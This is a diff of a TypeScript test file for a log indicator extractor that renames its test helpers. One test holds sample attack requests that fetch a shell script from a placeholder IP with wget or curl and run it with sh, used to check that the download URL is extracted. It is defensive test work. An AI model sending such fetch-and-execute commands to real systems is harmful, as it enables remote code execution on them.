@@ -1,6 +1,6 @@
 import { findIndicators } from '../../../src/core/indicators/index';
 import assert from 'node:assert/strict';
-import { assertFound, assertNone, raws } from './findHelpers';
+import { assertFound, assertNothingFound, findRaws } from './findHelpers';
 
 describe('forms that logs write', () => {
   it('names below endings that have no entry of their own in the list', () =>
@@ -62,7 +62,7 @@ describe('forms that logs write', () => {
     ]));
 
   it('versions of mail servers, products and packages are none', () =>
-    assertNone([
+    assertNothingFound([
       'with Microsoft SMTP Server (TLS) id 14.1.225.23; Thu, 20 Sep 2012',
       'with Microsoft SMTP Server (TLS)\r\n id 8.3.245.1; Wed, 19 Sep 2012',
       'cpe:/a:acme:web_server:2.4.7.1 and cpe:2.3:a:acme:tool:1.2.3.4:*:*:*',
@@ -96,7 +96,7 @@ describe('forms that logs write', () => {
     ]));
 
   it('names of users, units and files are none', () => {
-    assertNone([
+    assertNothingFound([
       'for invalid user john.li from; user=max.page; username="ann.black"; for user jo.kim port',
       'Reached target network-online.target. Stopped target multi-user.target',
       'daemon.info dnsmasq[1]: kern.info local7.info auth.info',
@@ -132,14 +132,14 @@ describe('forms that logs write', () => {
     ));
 
   it('what a command in a request downloads', () => {
-    assert.deepEqual(raws('GET /shell?cd+/tmp;wget+http://192.0.2.4/a.sh;sh+/tmp/a.sh HTTP/1.1'), [
+    assert.deepEqual(findRaws('GET /shell?cd+/tmp;wget+http://192.0.2.4/a.sh;sh+/tmp/a.sh HTTP/1.1'), [
       'http://192.0.2.4/a.sh',
     ]);
-    assert.deepEqual(raws('cmd=wget+http://192.0.2.4:88/a.m+-O+/tmp/b;sh+b&x=/'), ['http://192.0.2.4:88/a.m']);
-    assert.deepEqual(raws('?x=curl%20-s%20http://a-site.com/a%20-o%20b%3Bsh'), ['http://a-site.com/a']);
-    assert.deepEqual(raws('http://192.0.2.9/?wget+http://192.0.2.4/a;sh+a'), [
+    assert.deepEqual(findRaws('cmd=wget+http://192.0.2.4:88/a.m+-O+/tmp/b;sh+b&x=/'), ['http://192.0.2.4:88/a.m']);
+    assert.deepEqual(findRaws('?x=curl%20-s%20http://a-site.com/a%20-o%20b%3Bsh'), ['http://a-site.com/a']);
+    assert.deepEqual(findRaws('http://192.0.2.9/?wget+http://192.0.2.4/a;sh+a'), [
       'http://192.0.2.9/?wget+http://192.0.2.4/a;sh+a',
     ]);
-    assert.deepEqual(raws('q=see+http://a-site.com/a+b;c'), ['http://a-site.com/a+b;c']);
+    assert.deepEqual(findRaws('q=see+http://a-site.com/a+b;c'), ['http://a-site.com/a+b;c']);
   });
 });
